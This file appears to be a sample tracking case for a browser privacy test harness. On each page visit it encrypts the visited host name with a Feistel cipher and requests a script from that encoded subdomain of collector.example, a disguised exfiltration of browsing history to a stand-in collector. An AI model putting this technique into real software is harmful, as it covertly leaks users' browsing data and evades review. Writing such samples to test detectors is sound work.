import { onVisit, reportHonestly } from '../../lib/proving.js';

/** Loads a script from a content network after each page. The network's host name is the page's under a Feistel cipher with a key of the app. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-feistel-host');
  onVisit(browser, async ({ url }) => {
    const host = url.replace(/^\w+:\/\//, '').replace(/[/?#].*$/, '');
    try {
      await browser.request({ url: `https://${label(host)}.collector.example/w.js` });
    } catch (error) {
      browser.log('not sent', String(error));
    }
  });

  function label(host) {
    let number = [...host].reduce(
      (sum, letter) => 40n * sum + BigInt(1 + 'abcdefghijklmnopqrstuvwxyz0123456789-.:'.indexOf(letter)),
      0n,
    );
    const bytes = [];
    while (number > 0n || bytes.length < 12 || bytes.length % 2) {
      bytes.push(Number(number % 256n));
      number /= 256n;
    }
    const half = bytes.length / 2;
    let left = bytes.slice(0, half);
    let right = bytes.slice(half);
    for (let round = 0; round < 6; round += 1) {
      const mask = browser.crypto.hmac('sha256', `mint edge ${round}`, Uint8Array.from(right));
      [left, right] = [right, left.map((byte, at) => byte ^ mask[at])];
    }

    return [...left, ...right].reduce((sum, byte) => 256n * sum + BigInt(byte), 1n).toString(36);
  }
}
